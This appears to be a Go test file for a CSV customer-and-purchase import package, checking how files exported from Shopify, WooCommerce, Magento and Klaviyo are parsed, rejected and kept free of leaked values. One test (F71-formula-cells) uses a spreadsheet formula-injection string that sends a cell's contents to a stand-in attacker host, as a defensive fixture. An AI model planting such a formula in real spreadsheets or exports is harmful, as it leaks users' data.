package intake

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/cloakroom/cloakroom/internal/platform/cards"
	"github.com/cloakroom/cloakroom/internal/platform/record"
)

// fieldFile reads a file as it came from the field, beside the repository, where CI has
// it. Elsewhere it may be missing; testdata has invented files of the same kinds.
func fieldFile(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("../../../../shared/data/field", name))
	if err != nil && os.Getenv("CI") != "" {
		t.Fatalf("CI has the files of the field: %v", err)
	}
	if err != nil {
		t.Logf("no files of the field: %v", err)
	}
	return b
}

// brought is what an import of one file did.
type brought struct {
	Report
	sink    *memory
	rejects string
	refused string
	err     error
}

type bring struct {
	kind    string
	mapping string // "" is none; @NAME is a profile
	rules   Rules
	own     *cards.Own
	sink    *memory
}

// in imports one file into a sink in memory.
func (b bring) in(t *testing.T, text []byte) brought {
	t.Helper()
	var m *Mapping
	var err error
	switch name, profile := strings.CutPrefix(b.mapping, "@"); {
	case profile:
		m, err = Profile(name)
	case b.mapping != "":
		m, err = ParseMapping([]byte(b.mapping))
	}
	if err != nil {
		t.Fatal(err)
	}
	out := brought{sink: b.sink}
	if out.sink == nil {
		out.sink = newMemory()
	}
	r, err := NewReader(bytes.NewReader(text), Auto, m)
	if err != nil {
		out.err = err
		return out
	}
	r.Rules, r.Own = b.rules, b.own
	in := Input{Name: "f", Reader: r}
	var rejects, refused bytes.Buffer
	o := Options{MaxRejects: -1, Rejects: &rejects, Refused: func(string) io.Writer { return &refused }}
	if b.kind == kindPurchases {
		o.Purchases = in
	} else {
		o.Customers = in
	}
	out.Report, out.err = Run(t.Context(), Rows(out.sink), o)
	out.rejects, out.refused = rejects.String(), refused.String()
	for _, c := range []Counts{out.Customers, out.Purchases} {
		if out.err == nil && c.Read != c.New+c.Updated+c.Unchanged+c.Rejected+c.Anonymous.N {
			t.Errorf("the figures do not add up: %+v", c)
		}
	}
	return out
}

// known is a sink that has these customers.
func known(ids ...string) *memory {
	m := newMemory()
	for _, id := range ids {
		c := record.Customer{}
		c.Set(record.ExternalID, id)
		m.customers[id] = c
	}
	return m
}

func (b brought) customer(t *testing.T, id string, want map[string]string) {
	t.Helper()
	c, ok := b.sink.customers[id]
	if !ok {
		t.Errorf("customer %s is missing: %v\n%s", id, b.err, b.rejects)
		return
	}
	for name, v := range want {
		got := ""
		if f, err := record.ParseField(name); err == nil {
			got = c.Get(f)
		} else {
			got = c.Attributes[strings.TrimPrefix(name, attrPrefix)]
		}
		if got != v {
			t.Errorf("%s of %s is %q, want %q", name, id, got, v)
		}
	}
}

func (b brought) purchase(t *testing.T, customer, id, at, amount, currency string, quantity int64) {
	t.Helper()
	p, ok := b.sink.purchases[customer+"\x00"+id]
	if !ok {
		t.Errorf("purchase %s of %s is missing: %v\n%s", id, customer, b.err, b.rejects)
		return
	}
	if got := p.At.Format("2006-01-02T15:04:05Z"); got != at || p.Amount.String() != amount || p.Currency != currency || p.Quantity != quantity {
		t.Errorf("purchase %s: %s %s %s x%d, want %s %s %s x%d", id, got, p.Amount, p.Currency, p.Quantity, at, amount, currency, quantity)
	}
}

// lines checks that the rejects list these lines with these fields, and no other.
func (b brought) lines(t *testing.T, want ...string) {
	t.Helper()
	var got []string
	for l := range strings.Lines(b.rejects) {
		parts := strings.SplitN(l, ",", 5)
		if len(parts) == 5 && parts[0] == "f" {
			got = append(got, parts[1]+" "+parts[2]+" "+parts[3])
		}
	}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("the rejects list\n%q, want\n%q\n%s", got, want, b.rejects)
	}
}

var paris = Rules{Zone: mustZone("Europe/Paris")}

// Each file of the field, and what it must do. The word after a file's number is its kind.
func TestFieldFiles(t *testing.T) {
	bad, unfindable := " "+CodeBadField, " "+CodeUnfindable
	for file, check := range map[string]func(t *testing.T, b []byte){
		"F01-shopify-orders.csv": func(t *testing.T, b []byte) {
			b = bytes.ReplaceAll(b, []byte("4894584744520"), []byte("EAN-1")) // what cards makes of it is tested there
			sink := known("ines.oconnor@example.com", "Ines.OConnor@example.com", "yamada@example.jp")
			got := bring{kind: kindPurchases, mapping: "@shopify-orders", sink: sink}.in(t, b)
			got.purchase(t, "Ines.OConnor@example.com", "#1001-1", "2024-12-31T11:00:00Z", "190.00", "EUR", 2)
			got.purchase(t, "Ines.OConnor@example.com", "#1001-2", "2024-12-31T11:00:00Z", "120.00", "EUR", 1)
			got.purchase(t, "yamada@example.jp", "#1002-1", "2024-12-31T03:00:00Z", "250000", "JPY", 1)
			got.lines(t, "5 external_id "+CodeMissingExternalID) // a sale to nobody
			again := bring{kind: kindPurchases, mapping: "@shopify-orders", sink: sink}.in(t, b)
			if again.Purchases.Unchanged != 3 {
				t.Errorf("the same file again: %+v", again.Purchases)
			}
		},
		"F02-shopify-orders-as-exported.csv": func(t *testing.T, b []byte) {
			b = bytes.ReplaceAll(b, []byte("4894584744520"), []byte("EAN-1"))
			got := bring{kind: kindPurchases, mapping: "@shopify-orders", sink: known("Ines.OConnor@example.com", "yamada@example.jp")}.in(t, b)
			got.purchase(t, "Ines.OConnor@example.com", "#1001-1", "2024-12-31T11:00:00Z", "190.00", "EUR", 2)
			got.purchase(t, "yamada@example.jp", "#1002-1", "2024-12-31T03:00:00Z", "250000", "JPY", 1)
		},
		"F01b-lines-minimal.csv": func(t *testing.T, b []byte) {
			got := bring{kind: kindPurchases, sink: known("A1")}.in(t, b)
			if got.Purchases.New != 1 || got.Purchases.Rejected != 1 || got.Purchases.Unchanged != 0 || !strings.Contains(got.rejects, "line 2") {
				t.Errorf("%+v\n%s", got.Purchases, got.rejects)
			}
			got.lines(t, "3 purchase_id "+CodeRepeated)
			got = bring{kind: kindPurchases, sink: known("A1"), mapping: "purchases: {external_id: external_id, id: {from: purchase_id, per-line: true}, at: at, sku: sku, amount: amount, currency: currency}"}.in(t, b)
			got.purchase(t, "A1", "1001-2", "2024-12-31T00:00:00Z", "120.00", "EUR", 1)
		},
		"F03-woocommerce-customers.csv": func(t *testing.T, b []byte) {
			got := bring{mapping: "@woocommerce-customers", rules: paris}.in(t, b)
			got.lines(t)
			got.customer(t, "ines@example.com", map[string]string{"given_name": "Inès", "family_name": "O'Connor", "created_at": "2024-12-31T11:00:00Z", "country": "FR", "postal_code": "75008", "email": "ines@example.com"})
			got.customer(t, "mueller@example.de", map[string]string{"given_name": "", "family_name": "Müller & Söhne", "postal_code": "01067"})
			got.customer(t, "guest@example.com", map[string]string{"created_at": ""})
			if got = (bring{mapping: "@woocommerce-customers"}).in(t, b); got.Customers.Rejected != 2 || len(got.Customers.Hints) != 1 || !strings.Contains(got.Customers.Hints[0], "2 of 3 created_at have no time zone") {
				t.Errorf("without a zone: %+v", got.Customers)
			}
		},
		"F03-magento-customers.csv": func(t *testing.T, b []byte) {
			got := bring{mapping: "@magento-customers", rules: paris}.in(t, b)
			got.lines(t)
			got.customer(t, "ines@example.com", map[string]string{"birth_date": "1984-05-31", "created_at": "2024-12-31T11:00:00Z", "given_name": "Inès", "attr.prefix": "Mme"})
			got.customer(t, "max@example.de", map[string]string{"birth_date": "1984-05-31"})
			got.customer(t, "nodob@example.de", map[string]string{"birth_date": ""})
		},
		"F04-dates.csv": func(t *testing.T, b []byte) {
			got := bring{}.in(t, b)
			if got.Customers.New != 0 {
				t.Errorf("dates were guessed: %+v", got.sink.customers)
			}
			declared := "date: [DD/MM/YYYY, DD.MM.YYYY, YYYY-MM-DD hh:mm:ss]\nserial: 1900\nnull: '0000-00-00'\ncustomers: {external_id: external_id, birth_date: birth_date}"
			got = bring{mapping: declared}.in(t, b)
			got.lines(t, "3 birth_date"+bad) // 05/31 is no day of that order
			for _, id := range []string{"A1", "A3", "A4", "A5"} {
				want := "1984-05-31"
				if id == "A4" {
					want = "1984-05-31"
				}
				got.customer(t, id, map[string]string{"birth_date": want})
			}
			got.customer(t, "A6", map[string]string{"birth_date": ""})
		},
		"F06-semicolon.csv": func(t *testing.T, b []byte) {
			bring{}.in(t, b).customer(t, "A1", map[string]string{"family_name": "Müller", "phone": "+33612345678", "country": "FR"})
		},
		"F06-tab.csv": func(t *testing.T, b []byte) {
			bring{}.in(t, b).customer(t, "A1", map[string]string{"family_name": "Müller", "phone": "+33612345678", "country": "FR"})
		},
		"F07-amounts.csv": func(t *testing.T, b []byte) {
			got := bring{kind: kindPurchases, sink: known("A1")}.in(t, b)
			got.lines(t, "2 amount"+bad, "3 amount"+bad, "4 amount"+bad, "5 amount"+bad, "6 amount"+bad, "7 amount"+bad, "8 amount"+bad, "10 amount"+bad)
			got.purchase(t, "A1", "P8", "2024-12-31T00:00:00Z", "12.50", "EUR", 1)
			columns := "purchases: {external_id: external_id, id: purchase_id, at: at, amount: amount, currency: currency}"
			got = bring{kind: kindPurchases, sink: known("A1"), mapping: "decimal: ','\nthousands: '.'\ncurrency-signs: drop\nnegative: parentheses\n" + columns}.in(t, b)
			got.purchase(t, "A1", "P1", "2024-12-31T00:00:00Z", "12.50", "EUR", 1)
			got.purchase(t, "A1", "P2", "2024-12-31T00:00:00Z", "1250.00", "EUR", 1)
			got.purchase(t, "A1", "P7", "2024-12-31T00:00:00Z", "150000000", "IDR", 1)
			for _, id := range []string{"P3", "P4", "P5", "P6", "P8"} {
				if p, in := got.sink.purchases["A1\x00"+id]; in {
					t.Errorf("%s went in as %s: it is written with other marks than declared", id, p.Amount)
				}
			}
		},
		"F08-utf16le-bom.csv": func(t *testing.T, b []byte) {
			bring{}.in(t, b).customer(t, "A1", map[string]string{"given_name": "Zoë", "family_name": "Müller", "country": "FR"})
		},
		"F14-windows-1252.csv": func(t *testing.T, b []byte) {
			got := bring{}.in(t, b)
			got.lines(t, "2 given_name"+bad, "2 family_name"+bad)
			all := "customers: {external_id: external_id, given_name: given_name, family_name: family_name, email: email, phone: phone, country: country}"
			bring{mapping: "encoding: windows-1252\n" + all}.in(t, b).customer(t, "A1", map[string]string{"given_name": "Zoë", "family_name": "Müller"})
		},
		"F10-cr-only.csv": func(t *testing.T, b []byte) {
			got := bring{}.in(t, b)
			got.customer(t, "A1", map[string]string{"email": "ana.secret@example.com", "phone": "+33612345678"})
			got.customer(t, "A2", map[string]string{"email": "bob@example.com"})
		},
		"F11-shopify-customers.csv": func(t *testing.T, b []byte) {
			got := bring{mapping: "@shopify-customers"}.in(t, b)
			got.lines(t)
			got.customer(t, "7312345678901", map[string]string{"phone": "+33612345678", "postal_code": "75008", "country": "FR", "family_name": "O'Connor", "street": "12 rue de l'Étoile Bât. B", "attr.tags": "vip, gucci-club"})
			got.customer(t, "7312345678903", map[string]string{"phone": "+81 3-1234-5678", "postal_code": "104-0061"})
			got.customer(t, "4712345678909", map[string]string{"phone": "+4917612345678", "postal_code": "10115"})
			if got.Customers.New != 4 {
				t.Errorf("%+v", got.Customers)
			}
		},
		"F13-excel-phones.csv": func(t *testing.T, b []byte) {
			got := bring{}.in(t, b)
			if u := got.Customers.Unfound["phone"]; got.Customers.New != 4 || u.N != 2 || u.First != 2 {
				t.Errorf("%+v", got.Customers)
			}
			got.lines(t, "2 phone"+unfindable, "3 phone"+unfindable)
			got.customer(t, "A3", map[string]string{"phone": "+33612345678"})
			bring{rules: Rules{Strict: true}}.in(t, b).lines(t, "2 phone"+unfindable, "3 phone"+unfindable, "5 phone"+unfindable)
		},
		"F15-padding-rows.csv": func(t *testing.T, b []byte) {
			if c := (bring{}).in(t, b).Customers; c.Read != 1 || c.New != 1 {
				t.Errorf("%+v", c)
			}
		},
		"F16-trailing-commas.csv": func(t *testing.T, b []byte) {
			if got := (bring{}).in(t, b); got.Customers.New != 1 {
				t.Errorf("%+v %v", got.Customers, got.err)
			}
		},
		"F20-ids.csv": func(t *testing.T, b []byte) {
			got := bring{}.in(t, b)
			got.lines(t, "3 external_id "+CodeRepeated, "5 external_id "+CodeRepeated)
			if !strings.Contains(got.rejects, "line 2") || !strings.Contains(got.rejects, "line 4") || got.Customers.Unchanged != 0 {
				t.Errorf("%+v\n%s", got.Customers, got.rejects)
			}
		},
		"F21-second-with-blanks.csv": func(t *testing.T, b []byte) {
			first := fieldFile(t, "F21-first.csv")
			sink := newMemory()
			bring{sink: sink}.in(t, first)
			got := bring{sink: sink}.in(t, b)
			got.customer(t, "A1", map[string]string{"given_name": "Anna", "email": "ana@example.com", "attr.vip": "yes"})
			got = bring{sink: sink, rules: Rules{Empty: EmptyClear}}.in(t, b)
			got.customer(t, "A1", map[string]string{"given_name": "Anna", "email": "", "attr.vip": ""})
		},
		"F22-countries.csv": func(t *testing.T, b []byte) {
			got := bring{}.in(t, b)
			for id, want := range map[string]string{"A1": "FR", "A2": "FR", "A3": "FR", "A4": "GB"} {
				got.customer(t, id, map[string]string{"country": want})
			}
			got.customer(t, "A1", map[string]string{"phone": "+33612345678"})
			got.customer(t, "A4", map[string]string{"phone": "+442079460958"})
			got.lines(t, "6 country"+bad)
			got = bring{rules: Rules{DropBadFields: true}}.in(t, b)
			got.customer(t, "A5", map[string]string{"country": "", "phone": "0612345678"})
			if got.Customers.Dropped != 1 || got.Customers.New != 5 {
				t.Errorf("%+v", got.Customers)
			}
			got.lines(t, "6 country "+CodeDropped)
		},
		"F22-klaviyo-profiles.csv": func(t *testing.T, b []byte) {
			got := bring{mapping: "@klaviyo", rules: paris}.in(t, b)
			got.lines(t)
			got.customer(t, "01HABCDEF", map[string]string{"country": "FR", "created_at": "2024-12-31T11:00:00Z", "region": "Île-de-France"})
			got.customer(t, "01HABCDEG", map[string]string{"country": "DE", "phone": "+4917612345678"})
		},
		"F23-several-faults.csv": func(t *testing.T, b []byte) {
			got := bring{}.in(t, b)
			got.lines(t, "2 created_at"+bad, "2 birth_date"+bad)
			got = bring{}.in(t, bytes.ReplaceAll(b, []byte("France"), []byte("Atlantis")))
			got.lines(t, "2 country"+bad, "2 created_at"+bad, "2 birth_date"+bad)
		},
		"F28-quantity-zero.csv": func(t *testing.T, b []byte) {
			bring{kind: kindPurchases, sink: known("E1")}.in(t, b).purchase(t, "E1", "P0", "2024-12-31T00:00:00Z", "5.00", "EUR", 0)
		},
		"F47-phones.csv": func(t *testing.T, b []byte) {
			got := bring{}.in(t, b)
			got.customer(t, "A2", map[string]string{"phone": "+46701234567"})
			got.lines(t, "4 phone"+unfindable) // of the first, the vault says: it may know the country
			bring{rules: Rules{Country: "FR"}}.in(t, b).customer(t, "A1", map[string]string{"phone": "+33612345678"})
		},
		"F55-phones-invisible.csv": func(t *testing.T, b []byte) {
			got := bring{}.in(t, b)
			got.lines(t)
			got.customer(t, "A1", map[string]string{"phone": "+33612345678"})
			got.customer(t, "A2", map[string]string{"phone": "+33612345678"})
		},
		"F61-emails.csv": func(t *testing.T, b []byte) {
			got := bring{}.in(t, b)
			for id, want := range map[string]string{"A1": "ana@example.com", "A2": "bea@example.com", "A3": "cyn@example.com", "A5": "fay@example.com", "A6": "n/a"} {
				got.customer(t, id, map[string]string{"email": want})
			}
			got.lines(t, "5 email"+unfindable, "7 email"+unfindable)
		},
		"F71-formula-cells.csv": func(t *testing.T, b []byte) {
			got := bring{}.in(t, b)
			got.customer(t, "X1", map[string]string{"given_name": `=HYPERLINK("http://evil.example?x="&B2)`, "family_name": "+Lima", "email": "@ana", "attr.note": "=1+1"})
		},
	} {
		t.Run(file, func(t *testing.T) {
			if b := fieldFile(t, file); b != nil {
				check(t, b)
			}
		})
	}
}

// No message of any import of these files holds a value of theirs.
func TestNoMessageHoldsAValue(t *testing.T) {
	files, err := filepath.Glob("../../../../shared/data/field/*.csv")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range files {
		b := fieldFile(t, filepath.Base(name))
		for _, kind := range []string{kindCustomers, kindPurchases} {
			for _, mapping := range append([]string{""}, profileNames()...) {
				got := bring{kind: kind, mapping: mapping}.in(t, b)
				all := got.rejects + fmt.Sprint(got.err, got.Customers.Hints, got.Purchases.Hints)
				for _, word := range strings.FieldsFunc(string(b), func(r rune) bool { return strings.ContainsRune(",;\t\r\n\"' ", r) }) {
					if len(word) > 5 && strings.ContainsAny(word, "@0123456789") && strings.Contains(all, word) && !strings.Contains("2024-05-31T12:00:00Z +33123456789 3.36E+10 1984-05-31 name@example.com", word) {
						t.Errorf("%s as %s with %q: a message holds %q:\n%s", name, kind, mapping, word, all)
					}
				}
			}
		}
	}
}

func profileNames() (out []string) {
	for _, name := range Profiles() {
		out = append(out, "@"+name)
	}
	return out
}

func mustZone(name string) (at *time.Location) {
	at, err := Zone(name)
	if err != nil {
		panic(err)
	}
	return at
}
